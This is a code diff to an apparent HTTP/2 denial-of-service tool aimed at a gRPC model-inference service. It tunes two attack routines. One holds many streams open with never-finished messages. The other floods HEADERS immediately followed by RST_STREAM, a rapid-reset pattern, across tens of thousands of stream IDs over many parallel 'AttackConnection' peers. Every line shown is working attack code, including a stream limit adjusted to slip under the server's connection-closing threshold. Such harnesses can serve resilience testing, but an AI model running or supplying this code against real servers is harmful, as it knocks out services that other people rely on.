@@ -19,8 +19,8 @@ DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0x0, 0x
 END_STREAM, END_HEADERS = 0x1, 0x4
 MAX_FRAME: Final = 16_384
 INITIAL_WINDOW: Final = 4  # a setting
-STREAMS: Final = 100
-"""Streams of a connection; the server accepts a few more."""
+STREAMS: Final = 32
+"""Streams of a connection, which the server accepts; it closes connections with more."""
 INFER: Final = "/inference.GRPCInferenceService/ModelInfer"
 MESSAGE_BYTES: Final = 4 << 20
 """Maximum size of a message with the default settings."""
@@ -96,10 +96,12 @@ async def unfinished_messages(target: Target) -> int:
     async def behave(peer: AttackConnection) -> None:
         await peer.send(start())
         for stream in streams(STREAMS):
-            await peer.send(frame(HEADERS, END_HEADERS, stream, request_headers()))
-            await peer.send(frame(DATA, 0, stream, prefix + part) + frame(DATA, 0, stream, part) * 2)
-        while peer.target.active and await peer.receive():
-            await peer.send(b"".join(frame(DATA, 0, stream, part) for stream in streams(STREAMS)[:16]))
+            begun = frame(DATA, 0, stream, prefix + part) + frame(DATA, 0, stream, part) * 2
+            if not await peer.send(frame(HEADERS, END_HEADERS, stream, request_headers()) + begun):
+                return
+        more = b"".join(frame(DATA, 0, stream, part) for stream in streams(STREAMS)[:16])
+        while peer.target.active and await peer.receive() and await peer.send(more):
+            pass
 
     return await crowd(target, target.many(50), behave, again=True)
 
@@ -120,8 +122,8 @@ async def resets(target: Target) -> int:
 
     async def behave(peer: AttackConnection) -> None:
         await peer.send(start())
-        for first in range(1, 40_000, 200):
-            numbers = range(first, first + 200, 2)
+        for first in range(1, 40_000, 2 * STREAMS):
+            numbers = range(first, first + 2 * STREAMS, 2)
             opened = (
                 frame(HEADERS, END_HEADERS, number, request_headers()) + frame(RST_STREAM, 0, number, reset)
                 for number in numbers
